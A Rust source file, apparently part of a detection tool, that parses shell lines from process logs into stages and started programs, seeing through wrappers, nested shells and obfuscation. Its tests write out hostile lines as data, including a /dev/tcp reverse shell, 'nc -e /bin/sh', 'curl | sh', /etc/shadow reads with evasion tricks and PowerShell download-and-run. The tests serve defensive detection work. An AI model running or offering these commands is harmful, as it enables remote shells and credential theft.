//! A typed line as the events of a process log: the line itself, and each command of its lists and pipelines.

use std::{borrow::Cow, collections::HashSet};

use super::words::{next_word, plain};

/// Different commands of one line that are looked at; the line as a whole is always one of them.
pub const MAX_STAGES: usize = 256;
/// Substitutions within substitutions that are looked into.
const MAX_DEPTH: usize = 8;
/// Command lines within arguments (`sh -c '…'`) that are looked into, one within the other.
const MAX_NESTED: usize = 3;
/// Words that are looked at in the search for a command's programs.
const MAX_WORDS: usize = 64;
/// Programs of one command: `sudo env nice curl` has four.
const MAX_PROGRAMS: usize = 6;

/// One event: what was run, and which program.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Command<'a> {
    /// The command line.
    pub line: Cow<'a, str>,
    /// The program: the path when an absolute one was typed, else `/` and its name. Empty when there is none.
    pub image: Cow<'a, str>,
}

/// The commands of a line: the line as a whole first, then every stage, with each program that it starts.
pub fn commands(line: &str) -> Vec<Command<'_>> {
    let mut commands = Vec::new();
    collect(line, 0, &mut commands);
    if commands.len() <= 16 {
        let mut at = 1;
        while let Some((earlier, later)) = commands.split_at_checked(at) {
            match later.first() {
                Some(command) if earlier.contains(command) => drop(commands.remove(at)),
                Some(_) => at += 1,
                None => break,
            }
        }
    } else {
        let mut seen = HashSet::with_capacity(commands.len());
        let fresh: Vec<bool> = commands.iter().map(|command| seen.insert(command)).collect();
        let mut fresh = fresh.into_iter();
        commands.retain(|_| fresh.next().unwrap_or(true));
    }
    commands
}

fn collect<'a>(line: &'a str, nested: usize, commands: &mut Vec<Command<'a>>) {
    let line = line.trim();
    if line.is_empty() {
        return;
    }
    let image = programs(line).into_iter().next().map(|(_, image)| image).unwrap_or_default();
    let disguised = plain(line);
    if let Cow::Owned(meant) = &disguised {
        commands.push(Command { line: Cow::Owned(meant.clone()), image: image.clone() });
    }
    commands.push(Command { line: Cow::Borrowed(line), image });
    for stage in stages(line) {
        stage_commands(stage, commands);
        if let Some(run) = executed(stage) {
            stage_commands(run, commands);
        }
        if nested < MAX_NESTED && commands.len() < MAX_STAGES {
            for argument in nested_lines(stage) {
                let mut inner = Vec::new();
                collect(&argument, nested + 1, &mut inner);
                commands.extend(inner.into_iter().map(|command| Command {
                    line: Cow::Owned(command.line.into_owned()),
                    image: Cow::Owned(command.image.into_owned()),
                }));
            }
        }
    }
}

/// What `find` runs on what it finds.
fn executed(stage: &str) -> Option<&str> {
    let (_, behind) = stage.split_once(" -exec").or_else(|| stage.split_once(" -ok"))?;
    behind.trim_start_matches("dir").strip_prefix(char::is_whitespace).map(str::trim_start)
}

/// One stage as it is typed and without its disguise, once for each of its programs.
fn stage_commands<'a>(stage: &'a str, commands: &mut Vec<Command<'a>>) {
    let mut programs_found = programs(stage);
    if programs_found.is_empty() {
        programs_found.push((stage, Cow::Borrowed("")));
    }
    for (number, (from, image)) in programs_found.into_iter().enumerate() {
        // The first program is the stage's own; the others are started by it, with the words from theirs on.
        let line = if number == 0 { stage } else { from };
        if let Cow::Owned(meant) = plain(line) {
            for (_, image) in programs(&meant).into_iter().take(1) {
                commands.push(Command { line: Cow::Owned(meant.clone()), image: Cow::Owned(image.into_owned()) });
            }
            commands.push(Command { line: Cow::Owned(meant), image: image.clone() });
        }
        commands.push(Command { line: Cow::Borrowed(line), image });
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Within {
    /// The line, `( … )` and `$( … )`.
    Commands,
    Backticks,
    DoubleQuotes,
}

/// The line's commands, without the operators between them: split on `|`, `||`, `|&`, `&&`, `&`, `;` and line breaks
/// outside of quotes; those in `$( … )`, `( … )`, `<( … )` and backticks are commands too.
pub fn stages(line: &str) -> Vec<&str> {
    let (stages, balanced) = scan(line, true);
    if balanced {
        return stages;
    }
    // A quote that never closes is no quote: a garbled reading must not hide what follows it.
    let mut all = stages;
    for stage in scan(line, false).0 {
        if all.len() >= MAX_STAGES {
            break;
        }
        if !all.contains(&stage) {
            all.push(stage);
        }
    }
    all
}

fn scan(line: &str, quotes: bool) -> (Vec<&str>, bool) {
    let bytes = line.as_bytes();
    let mut found = Found { line, stages: Vec::new() };
    let mut frames = vec![(Within::Commands, 0)];
    let mut balanced = true;
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        let next = bytes.get(at + 1).copied();
        let depth = frames.len();
        let Some((within, start)) = frames.last_mut() else { break };
        let mut step = 1;
        match (*within, byte) {
            (_, b'\\') => step = 2,
            (Within::DoubleQuotes, b'"') => drop(frames.pop()),
            (_, b'$') if next == Some(b'(') => {
                step = 2;
                frames.push((Within::Commands, at + step));
            }
            (Within::Backticks, b'`') => {
                found.add(*start, at, depth);
                frames.pop();
            }
            (_, b'`') => frames.push((Within::Backticks, at + 1)),
            (Within::DoubleQuotes, _) => {}
            (_, b'\'') if quotes => match bytes.get(at + 1..).and_then(|rest| rest.iter().position(|b| *b == b'\'')) {
                Some(length) => step = length + 2,
                None => {
                    balanced = false;
                    step = bytes.len();
                }
            },
            (_, b'"') if quotes => frames.push((Within::DoubleQuotes, at + 1)),
            (_, b'(') => frames.push((Within::Commands, at + 1)),
            (Within::Commands, b')') if depth > 1 => {
                found.add(*start, at, depth);
                frames.pop();
            }
            // `>&`, `<&` and `&>` are redirections.
            (_, b'&')
                if next == Some(b'>')
                    || at
                        .checked_sub(1)
                        .and_then(|before| bytes.get(before))
                        .is_some_and(|before| matches!(before, b'>' | b'<')) => {}
            (_, b'|' | b'&' | b';' | b'\n') => {
                found.add(*start, at, depth);
                step = match (byte, next) {
                    (b'|', Some(b'|' | b'&')) | (b'&', Some(b'&')) | (b';', Some(b';')) => 2,
                    _ => 1,
                };
                *start = at + step;
            }
            _ => {}
        }
        at += step;
    }
    for (number, (within, start)) in frames.into_iter().enumerate() {
        match within {
            Within::DoubleQuotes => balanced = false,
            Within::Commands | Within::Backticks => found.add(start, line.len(), number + 1),
        }
    }
    (found.stages, balanced)
}

struct Found<'a> {
    line: &'a str,
    stages: Vec<&'a str>,
}

impl Found<'_> {
    fn add(&mut self, start: usize, end: usize, depth: usize) {
        if depth > MAX_DEPTH || self.stages.len() >= MAX_STAGES {
            return;
        }
        // A start behind the end, or inside a character, comes of a backslash at the end.
        let stage = self.line.get(start..end.min(self.line.len())).unwrap_or_default().trim();
        if !stage.is_empty() && !self.stages.contains(&stage) {
            self.stages.push(stage);
        }
    }
}

/// A program that starts the one in its arguments.
struct Starter {
    name: &'static str,
    /// Its options that take the next word.
    with_value: &'static [&'static str],
    /// Its own arguments before the command.
    arguments: usize,
}

const fn starter(name: &'static str, with_value: &'static [&'static str], arguments: usize) -> Starter {
    Starter { name, with_value, arguments }
}

const STARTERS: [Starter; 24] = [
    starter("sudo", &["-u", "-g", "-h", "-p", "-C", "-T", "-U", "-D", "-R", "-r", "-t", "--user", "--group"], 0),
    starter("doas", &["-u", "-C"], 0),
    starter("env", &["-u", "-C", "--unset", "--chdir"], 0),
    starter("exec", &["-a"], 0),
    starter("command", &[], 0),
    starter("builtin", &[], 0),
    starter("nohup", &[], 0),
    starter("setsid", &[], 0),
    starter("time", &["-f", "-o"], 0),
    starter("nice", &["-n", "--adjustment"], 0),
    starter("ionice", &["-c", "-n"], 0),
    starter("chrt", &[], 1),
    starter("taskset", &[], 1),
    starter("timeout", &["-s", "-k", "--signal", "--kill-after"], 1),
    starter("stdbuf", &["-i", "-o", "-e"], 0),
    starter("unbuffer", &[], 0),
    starter("xargs", &["-I", "-n", "-P", "-L", "-d", "-E", "-a", "-s"], 0),
    starter("watch", &["-n", "--interval"], 0),
    starter("strace", &["-e", "-o", "-p", "-s"], 0),
    starter("busybox", &[], 0),
    starter("toybox", &[], 0),
    starter("chroot", &[], 1),
    starter("proxychains", &["-f"], 0),
    starter("proxychains4", &["-f"], 0),
];

/// Words that stand before a command and are none.
const KEYWORDS: [&str; 16] =
    ["if", "then", "else", "elif", "do", "while", "until", "{", "}", "!", "&", "coproc", "in", "fi", "done", "["];

/// The programs that a stage starts, each with the text from its word on: `sudo -E curl x` starts sudo, and curl.
fn programs(stage: &str) -> Vec<(&str, Cow<'_, str>)> {
    let mut found: Vec<(&str, Cow<'_, str>)> = Vec::new();
    let mut starter: Option<&Starter> = None;
    let (mut at, mut words, mut arguments) = (0, 0, 0);
    let mut value_follows = false;
    while let Some((start, end)) = next_word(stage, at) {
        (at, words) = (end, words + 1);
        let (Some(raw), Some(from)) = (stage.get(start..end), stage.get(start..)) else { break };
        if words > MAX_WORDS || found.len() >= MAX_PROGRAMS {
            break;
        }
        if std::mem::take(&mut value_follows) {
            continue;
        }
        let redirected = raw.trim_start_matches(|digit: char| digit.is_ascii_digit());
        if redirected.starts_with(['<', '>']) || raw.starts_with("&>") {
            value_follows = redirected.ends_with(['<', '>']);
            continue;
        }
        if is_assignment(raw) || (found.is_empty() && KEYWORDS.contains(&raw)) {
            continue;
        }
        if let Some(starter) = starter {
            if raw.len() > 1 && raw.starts_with('-') {
                value_follows = starter.with_value.contains(&raw);
                continue;
            }
            if arguments > 0 {
                arguments -= 1;
                continue;
            }
        }
        let Some(image) = image(raw) else { continue };
        let name = image.rsplit('/').next().unwrap_or_default();
        starter = STARTERS.iter().find(|starter| starter.name == name);
        found.push((from, image));
        match starter {
            Some(starter) => arguments = starter.arguments,
            None => break,
        }
    }
    found
}

/// `NAME=…`
fn is_assignment(word: &str) -> bool {
    let Some((name, _)) = word.split_once('=') else { return false };
    let name = name.strip_suffix('+').unwrap_or(name);
    !name.is_empty()
        && !name.starts_with(|first: char| first.is_ascii_digit())
        && name.bytes().all(|byte| byte == b'_' || byte.is_ascii_alphanumeric())
}

/// The program that a word names.
fn image(raw: &str) -> Option<Cow<'_, str>> {
    let raw = raw.trim_start_matches(['(', '{', '!', '`', '$', '&']).trim_end_matches([')', '`', ';']);
    // `cat</etc/shadow`
    let raw = raw.split(['<', '>']).next().unwrap_or_default();
    let windows = raw.contains(":\\") || raw.starts_with(".\\") || raw.starts_with("\\\\");
    let word = if windows { Cow::Borrowed(raw.trim_matches(['"', '\''])) } else { plain(raw) };
    if word.starts_with('/') && !windows && word.len() > 1 && !word.ends_with('/') {
        return Some(word);
    }
    let name = word.rsplit(['/', '\\']).next().unwrap_or_default();
    if name.is_empty() { None } else { Some(Cow::Owned(format!("/{name}"))) }
}

/// Command lines that a stage hands to a shell as an argument: `sh -c '…'`, `su - app -c "…"`, `eval '…'`.
fn nested_lines(stage: &str) -> Vec<String> {
    let mut lines = Vec::new();
    if !stage.contains(['\'', '"']) {
        return lines;
    }
    let (mut at, mut follows) = (0, false);
    for _ in 0..MAX_WORDS {
        let Some((start, end)) = next_word(stage, at) else { break };
        at = end;
        let Some(raw) = stage.get(start..end) else { break };
        if std::mem::take(&mut follows) {
            lines.push(plain(raw).into_owned());
            continue;
        }
        let cluster = raw.strip_prefix('-').is_some_and(|letters| {
            letters.ends_with('c') && letters.len() <= 4 && letters.bytes().all(|byte| byte.is_ascii_alphabetic())
        });
        follows = cluster
            || ["eval", "/c", "/k", "--command", "iex"].iter().any(|word| raw.eq_ignore_ascii_case(word))
            || raw.eq_ignore_ascii_case("-command");
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn events(line: &str) -> Vec<(String, String)> {
        commands(line).into_iter().map(|c| (c.line.into_owned(), c.image.into_owned())).collect()
    }

    fn has(line: &str, command: &str, image: &str) {
        let events = events(line);
        assert!(
            events.contains(&(command.to_owned(), image.to_owned())),
            "{line}: no {command} of {image}: {events:?}"
        );
    }

    #[test]
    fn operators_part_a_line_into_stages() {
        for (line, parts) in [
            ("id", vec!["id"]),
            ("a | b || c && d ; e & f", vec!["a", "b", "c", "d", "e", "f"]),
            ("a |& b", vec!["a", "b"]),
            ("echo 'a | b' \"c ; d\" | e", vec!["echo 'a | b' \"c ; d\"", "e"]),
            ("bash -i >& /dev/tcp/1.2.3.4/44 0>&1", vec!["bash -i >& /dev/tcp/1.2.3.4/44 0>&1"]),
            ("a &> b", vec!["a &> b"]),
            ("echo $(curl x | sh)", vec!["curl x", "sh", "echo $(curl x | sh)"]),
            ("echo \"$(curl x)\"", vec!["curl x", "echo \"$(curl x)\""]),
            ("echo `id`", vec!["id", "echo `id`"]),
            ("(cd /x; ls)", vec!["cd /x", "ls", "(cd /x; ls)"]),
            ("a \\| b", vec!["a \\| b"]),
            ("true;true;true", vec!["true"]),
            ("", vec![]),
            (" ; | ", vec![]),
        ] {
            assert_eq!(stages(line), parts, "{line}");
        }
    }

    #[test]
    fn a_quote_that_never_closes_hides_nothing() {
        assert!(stages("echo don't; curl x | sh").contains(&"curl x"));
        assert!(stages("echo \"x; curl x | sh").contains(&"sh"));
    }

    #[test]
    fn every_program_of_a_stage_is_an_event() {
        has("sudo -E curl x", "sudo -E curl x", "/sudo");
        has("sudo -E curl x", "curl x", "/curl");
        has("sudo -u app env A=1 nice -n 5 curl x", "curl x", "/curl");
        has("A=1 B=2 curl x", "A=1 B=2 curl x", "/curl");
        has("timeout -k 5 10 nc -e /bin/sh h 1", "nc -e /bin/sh h 1", "/nc");
        has("cat x | /usr/bin/base64 -d | sh", "/usr/bin/base64 -d", "/usr/bin/base64");
        has("cat x | base64 -d | sh", "sh", "/sh");
        has("if true; then curl x; fi", "then curl x", "/curl");
        has("2>/dev/null >x curl y", "2>/dev/null >x curl y", "/curl");
        has("{curl,-s,http://x}|sh", "curl -s http://x", "/curl");
        has("cat</etc/shadow", "cat</etc/shadow", "/cat");
        has("find / -name x -execdir curl -T {} http://x ;", "curl -T {} http://x", "/curl");
        has("./run.sh a", "./run.sh a", "/run.sh");
        has("c''url x", "curl x", "/curl");
        has("cat${IFS}/etc/shadow", "cat /etc/shadow", "/cat");
        has("bash -c 'curl x | sh'", "curl x", "/curl");
        has("su - app -c \"id; curl x\"", "curl x", "/curl");
        has("find . -exec sh -c 'curl x' \\;", "curl x", "/curl");
        has(r"C:\Windows\System32\cmd.exe /c 'whoami /all'", "whoami /all", "/whoami");
        has("curl x | sh", "curl x | sh", "/curl");
        has("iex (iwr http://x)", "iwr http://x", "/iwr");
    }

    #[test]
    fn what_is_quoted_for_no_shell_is_no_command() {
        assert!(events("echo 'curl x | sh'").iter().all(|(_, image)| image == "/echo"));
    }

    #[test]
    fn hostile_lines_stay_small() {
        for line in [
            "$(".repeat(20_000),
            "a;".repeat(20_000),
            (0..20_000).map(|n| format!("a{n};")).collect::<String>(),
            "`".repeat(20_001),
            "'\"".repeat(20_000),
            "sudo ".repeat(20_000),
            "sh -c '".repeat(10_000),
            "\\".repeat(20_001),
        ] {
            let commands = commands(&line);
            assert!(commands.len() <= 4 * MAX_STAGES, "{}", commands.len());
            assert!(commands.iter().map(|command| command.line.len()).sum::<usize>() < 64 * line.len());
        }
    }

    proptest::proptest! {
        #[test]
        fn any_line_has_commands(line in "\\PC*") {
            let commands = commands(&line);
            assert_eq!(commands.is_empty(), line.trim().is_empty());
        }

        #[test]
        fn any_shell_line_has_commands(
            parts in proptest::collection::vec(proptest::sample::select(PARTS.as_slice()), 0..30),
        ) {
            let line = parts.concat();
            let commands = commands(&line);
            assert_eq!(commands.is_empty(), line.trim().is_empty());
        }
    }

    const PARTS: [&str; 24] = [
        "curl ", "'", "\"", "\\", "$(", ")", "(", "`", "|", "&", ";", ">", " ", "sudo ", "é", "A=1 ", "-c ", "sh ",
        "${IFS}", "\n", "$'\\x4", "eval ", "{", "日本",
    ];
}
